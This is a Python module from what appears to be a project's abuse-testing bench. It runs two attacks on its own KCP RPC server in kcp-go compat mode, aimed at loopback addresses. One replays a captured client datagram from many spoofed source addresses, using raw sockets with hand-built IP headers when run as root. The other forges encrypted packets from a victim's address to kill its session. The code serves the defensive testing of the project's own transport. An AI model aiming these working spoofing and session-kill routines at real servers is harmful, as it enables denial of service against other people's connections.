"""Compat-mode attacks of the abuse bench (items 7 and 8 of the hostile-clients issue).

The target is ``python -m bench._abuse_server --mode compat`` (kcp-go's format, cipher
:data:`bench._abuse_common.COMPAT_CRYPT`, passphrase :data:`bench._abuse_common.KEY`, which every
player holds).

- ``compat-replay-spray`` (item 7): a legitimate client connects through a tiny UDP relay that we
  control, the relay captures the client's first datagram, and that one datagram is replayed, byte
  for byte, from many spoofed source addresses. As root it uses a raw socket (any 127/8 source
  address and port); otherwise it binds a socket per source address (all of 127/8 is local).
- ``compat-session-kill`` (item 8): a victim client makes calls through the relay (the relay's
  upstream socket is the victim's address as the server sees it), and the attacker sends forged
  packets *from the victim's address* (injected through that socket: the same as a spoofed source)
  carrying a new conv with ``sn == 0`` and more segments of it for two seconds, built with the
  transport's own encoder and the key. Being on the victim's path (the relay), it also reads the
  server's datagrams to the victim and acknowledges the challenges the server sends for its forged
  conversations, which an off-path attacker could not. kcp-go's restart rule replaces the
  victim's session on the first forged packet.

Each ``run(target, seconds)`` stops at its deadline and returns its own counters.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
import socket
import struct
import time
from typing import Any

import kcprpc
from bench._abuse_common import COMPAT_CRYPT, AbuseService, Attack, EchoMsg, Target
from kcp.pipeline import KIND_KCP

_HDR = struct.Struct("<IBBHIIII")  # conv cmd frg wnd ts sn una len
SPRAY_RATE = 4000
"""Replayed datagrams per second of ``compat-replay-spray`` (each spoofed address sends twice)."""
SPRAY_MAX_ADDRESSES = 200_000
KILL_INTERVAL = 0.05
"""Seconds between two forged packets of ``compat-session-kill`` (40 per forged conversation)."""


class _Relay:
    """A UDP relay: one downstream socket for the clients, one upstream socket per client address.

    It records the first ``capture`` datagrams each client sends upstream, and :meth:`inject`
    sends a datagram to the target from a client's upstream socket (a spoofed source address, as
    the target sees it).
    """

    def __init__(self, target: tuple[str, int], capture: int = 4) -> None:
        self.target = target
        self.capture = capture
        self.down = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.down.bind(("127.0.0.1", 0))
        self.down.setblocking(False)
        self.ups: dict[Any, socket.socket] = {}
        self.captured: list[bytes] = []
        self.watch: Any = None  # called with (client, datagram) for each datagram to a client
        self._loop = asyncio.get_running_loop()
        self._loop.add_reader(self.down.fileno(), self._from_client)

    @property
    def address(self) -> tuple[str, int]:
        host, port = self.down.getsockname()
        return host, port

    def upstream_address(self, client: Any) -> tuple[str, int]:
        host, port = self.ups[client].getsockname()
        return host, port

    def _from_client(self) -> None:
        for _ in range(256):
            try:
                data, addr = self.down.recvfrom(4096)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                return
            up = self.ups.get(addr)
            if up is None:
                up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                up.bind(("127.0.0.1", 0))
                up.setblocking(False)
                self.ups[addr] = up
                self._loop.add_reader(up.fileno(), self._from_target, up, addr)
            if len(self.captured) < self.capture:
                self.captured.append(data)
            with contextlib.suppress(OSError):
                up.sendto(data, self.target)

    def _from_target(self, up: socket.socket, client: Any) -> None:
        for _ in range(256):
            try:
                data = up.recv(4096)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                return
            if self.watch is not None:
                self.watch(client, data)
            with contextlib.suppress(OSError):
                self.down.sendto(data, client)

    def inject(self, client: Any, datagram: bytes) -> None:
        with contextlib.suppress(OSError):
            self.ups[client].sendto(datagram, self.target)

    def close(self) -> None:
        for s in (self.down, *self.ups.values()):
            with contextlib.suppress(Exception):
                self._loop.remove_reader(s.fileno())
            s.close()
        self.ups.clear()


def _sealer(target: Target) -> Any:
    """The transport's own packet encoder with the key every player holds."""
    from kcp.crypt import derive_key, new_crypt
    from kcp.pipeline import Pipeline
    from kcp.stats import Counters

    crypt = new_crypt(target.crypt or COMPAT_CRYPT, derive_key(target.key))
    ds, ps = target.fec or (0, 0)
    return Pipeline(crypt, ds, ps, Counters())


def _checksum_free_udp(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    """An IPv4 + UDP packet (UDP checksum 0: optional in IPv4) for a raw socket."""
    ulen = 8 + len(payload)
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + ulen,
        0,
        0,
        64,
        socket.IPPROTO_UDP,
        0,  # the kernel fills in the IP header checksum (and the id) for IP_HDRINCL
        socket.inet_aton(src[0]),
        socket.inet_aton(dst[0]),
    )
    return ip + struct.pack("!HHHH", src[1], dst[1], ulen, 0) + payload


class _Spoofer:
    """Sends a datagram to ``dst`` from an arbitrary 127/8 source address."""

    def __init__(self, dst: tuple[str, int]) -> None:
        self.dst = dst
        self.raw: socket.socket | None = None
        if hasattr(os, "geteuid") and os.geteuid() == 0:
            with contextlib.suppress(OSError):
                raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
                raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
                raw.setblocking(False)
                self.raw = raw
        self.errors = 0

    @property
    def kind(self) -> str:
        return "raw" if self.raw is not None else "bind"

    def send(self, src: tuple[str, int], payload: bytes, copies: int = 1) -> int:
        if self.raw is not None:
            pkt = _checksum_free_udp(src, self.dst, payload)
            sent = 0
            for _ in range(copies):
                try:
                    self.raw.sendto(pkt, (self.dst[0], 0))
                    sent += 1
                except OSError:
                    self.errors += 1
            return sent
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.bind(src)
            sent = 0
            for _ in range(copies):
                s.sendto(payload, self.dst)
                sent += 1
            return sent
        except OSError:
            self.errors += 1
            return 0
        finally:
            s.close()

    def close(self) -> None:
        if self.raw is not None:
            self.raw.close()


def _spoofed_addresses(rng: random.Random) -> Any:
    """Distinct source addresses in 127.1.0.0 - 127.254.255.255 (not 127.0.0.0/16, the legit client's)."""
    seen: set[tuple[str, int]] = set()
    while True:
        a = (
            f"127.{rng.randrange(1, 255)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            rng.randrange(1024, 65535),
        )
        if a not in seen:
            seen.add(a)
            yield a


async def _capture_first_datagram(target: Target) -> tuple[bytes, dict[str, int]]:
    """Connect a legitimate client through our relay; return the first datagram it sent."""
    relay = _Relay((target.host, target.port), capture=1)
    stats = {"capture_connect_ok": 0}
    try:
        client = kcprpc.connect(*relay.address, transport=target.transport())
        try:
            await asyncio.wait_for(client.connect(), 10)
            await asyncio.wait_for(client.stub(AbuseService).echo(EchoMsg(data=b"capture")), 10)
            stats["capture_connect_ok"] = 1
        except Exception:
            pass
        finally:
            await client.close()
    finally:
        relay.close()
    if not relay.captured:
        raise RuntimeError("the relay captured nothing: is the target up?")
    return relay.captured[0], stats


async def replay_spray(target: Target, seconds: float) -> dict[str, int]:
    deadline = time.monotonic() + seconds
    packet, out = await _capture_first_datagram(target)
    spoofer = _Spoofer((target.host, target.port))
    rng = random.Random(7)
    addrs = _spoofed_addresses(rng)
    out.update(replayed=0, spoofed_addresses=0, spoof_errors=0, raw_socket=int(spoofer.raw is not None))
    tick = 0.01
    per_tick = max(1, int(SPRAY_RATE * tick) // 2)
    try:
        next_at = time.monotonic()
        while time.monotonic() < deadline and out["spoofed_addresses"] < SPRAY_MAX_ADDRESSES:
            for _ in range(per_tick):
                out["replayed"] += spoofer.send(next(addrs), packet, copies=2)
                out["spoofed_addresses"] += 1
            next_at += tick
            await asyncio.sleep(max(0.0, next_at - time.monotonic()))
    finally:
        out["spoof_errors"] = spoofer.errors
        spoofer.close()
    return out


async def session_kill(target: Target, seconds: float) -> dict[str, int]:
    deadline = time.monotonic() + seconds
    relay = _Relay((target.host, target.port), capture=0)
    sealer = _sealer(target)
    rng = random.Random(8)
    out = {
        "victim_calls_ok": 0,
        "victim_calls_failed": 0,
        "forged_restarts": 0,
        "forged_packets": 0,
        "challenges_answered": 0,
    }
    forged: set[int] = set()

    def on_path(client: Any, datagram: bytes) -> None:
        """The relay is on the victim's path: answer the server's challenges for our convs, as
        the victim's engine would for its own (an off-path attacker could not see them)."""
        for kind, pkt in sealer.open(datagram, 0):
            if kind != KIND_KCP or len(pkt) < 24:
                continue
            conv, cmd, _frg, _wnd, ts, sn, _una, _ln = _HDR.unpack_from(pkt, 0)
            if conv in forged and cmd == 81 and sn == 0xFFFFFFFF:
                relay.inject(client, sealer.seal(_HDR.pack(conv, 82, 0, 128, ts, sn, 0, 0), 0)[0])
                out["challenges_answered"] += 1

    relay.watch = on_path
    client = kcprpc.connect(*relay.address, transport=target.transport())
    try:
        await asyncio.wait_for(client.connect(), 10)
        (victim,) = relay.ups  # the victim's address, as the server sees it: the relay's upstream socket

        async def calls() -> None:
            while time.monotonic() < deadline:
                try:
                    await asyncio.wait_for(client.stub(AbuseService).echo(EchoMsg(data=b"victim")), 5)
                    out["victim_calls_ok"] += 1
                except Exception:
                    out["victim_calls_failed"] += 1
                await asyncio.sleep(0.01)

        task = asyncio.ensure_future(calls())
        t0 = time.monotonic()
        try:
            while time.monotonic() < deadline and not task.done():
                # a new conversation's first segment (sn 0) from the victim's address, then more
                # segments of it, sent again and again as a restarted client would
                conv = rng.getrandbits(32)
                forged.add(conv)
                out["forged_restarts"] += 1
                body = b"\x00" * 8
                for k in range(40):
                    now_ms = int((time.monotonic() - t0) * 1000)
                    pkt = _HDR.pack(conv, 81, 0, 128, now_ms & 0xFFFFFFFF, k % 2, 0, len(body)) + body
                    relay.inject(victim, sealer.seal(pkt, now_ms)[0])
                    out["forged_packets"] += 1
                    await asyncio.sleep(KILL_INTERVAL)
                    if time.monotonic() >= deadline:
                        break
        finally:
            await task
    finally:
        await client.close()
        relay.close()
    return out


ATTACKS: list[Attack] = [
    Attack(
        name="compat-replay-spray",
        item=7,
        mode="compat",
        run=replay_spray,
        description=(
            "one captured client datagram replayed (twice each) from many spoofed 127/8 source "
            f"addresses, {SPRAY_RATE} datagrams/s"
        ),
    ),
    Attack(
        name="compat-session-kill",
        item=8,
        mode="compat",
        run=session_kill,
        description=(
            "forged new-conv sn-0 packets from a live victim's address, on its path (the server's "
            "challenges for them are answered), while the victim makes calls"
        ),
    ),
]
